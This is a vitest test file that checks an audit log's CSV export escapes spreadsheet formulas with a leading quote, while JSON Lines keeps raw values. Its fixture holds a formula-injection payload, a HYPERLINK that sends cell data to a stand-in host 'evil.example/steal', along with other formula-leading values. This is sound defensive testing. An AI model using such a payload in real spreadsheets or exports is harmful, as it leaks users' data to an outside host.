/**
 * A log whose person's name and values are spreadsheet formulas, exported on both engines: in CSV
 * every such cell starts with `'` (a spreadsheet shows it, never runs it) and numbers stay numbers;
 * JSON Lines carries the raw values for scripts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportRows, type ExportOptions } from '../../db/export/index';
import type { AuditService } from '../../db/index';
import { ENGINES, fixtureSource, openSource } from './fixtures/engines';
import { tempDir } from './fixtures/replica';

const dir = tempDir('audit-trail-export-formulas-');

const LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Alice")';

const FORMULA_FIXTURE = `
CREATE TABLE "Person" ("ID" INTEGER PRIMARY KEY, "Name" TEXT, "Login" TEXT);
INSERT INTO "Person" VALUES (1, 'Alice Archer', 'alice');
CREATE TABLE "Widget" ("ID" INTEGER PRIMARY KEY, "Label" TEXT, "Note" TEXT, "Amount" DOUBLE PRECISION);
INSERT INTO "Widget" VALUES (1, '-2+3', '@SUM(1)', -5);
CREATE TABLE "Widget_log" ("ID" INTEGER PRIMARY KEY, "WidgetID" INTEGER, "Label" TEXT, "Note" TEXT, "Amount" DOUBLE PRECISION,
  "ByID" INTEGER, "ByName" TEXT, "ByTime" TEXT, "ChangeCue" TEXT);
INSERT INTO "Widget_log" VALUES
 (1, 1, 'plain', 'quiet', 1, 1, '${LINK.replace(/'/g, "''")}', '2024-01-01 10:00:00', 'Added'),
 (2, 1, '-2+3', '@SUM(1)', -5, 1, '${LINK.replace(/'/g, "''")}', '2024-01-02 10:00:00', 'Modified');
`;

async function collect(api: AuditService, options: ExportOptions): Promise<string> {
  let text = '';
  for await (const chunk of exportRows(api, options)) text += chunk;
  return text;
}

describe.each(ENGINES)('exporting formulas from the log on %s', (engine) => {
  let service: AuditService;
  beforeAll(async () => {
    service = await openSource(await fixtureSource(engine, dir, `formulas_${engine}`, FORMULA_FIXTURE), { role: 'dba' });
  });
  afterAll(async () => {
    await service?.close();
  });
  const source = { kind: 'history' as const, table: 'Widget', id: 1 };

  it('writes CSV cells a spreadsheet shows and never runs, numbers as numbers', async () => {
    const csv = await collect(service, { source, format: 'csv' });
    const lines = csv.split('\r\n');
    const person = `"'${LINK.replace(/"/g, '""')}"`;
    expect(lines).toContain(`2024-01-02T10:00:00.000Z,${person},1,Widget,1,2,Modified,Label,plain,'-2+3`);
    expect(lines).toContain(`2024-01-02T10:00:00.000Z,${person},1,Widget,1,2,Modified,Note,quiet,'@SUM(1)`);
    expect(lines).toContain(`2024-01-02T10:00:00.000Z,${person},1,Widget,1,2,Modified,Amount,1,-5`);
    // No cell anywhere starts a formula: after a separator or a line start, never =, +, -, @ unquoted.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+@\t]/);
  });

  it('writes JSON Lines with the raw values, for scripts', async () => {
    const jsonl = await collect(service, { source, format: 'jsonl' });
    const newest = JSON.parse(jsonl.split('\n')[0]!) as { byName: string; changes: Array<{ field: string; old: unknown; new: unknown }> };
    expect(newest.byName).toBe(LINK);
    expect(newest.changes).toEqual(
      expect.arrayContaining([
        { field: 'Label', old: 'plain', new: '-2+3' },
        { field: 'Note', old: 'quiet', new: '@SUM(1)' },
        { field: 'Amount', old: 1, new: -5 },
      ]),
    );
  });
});

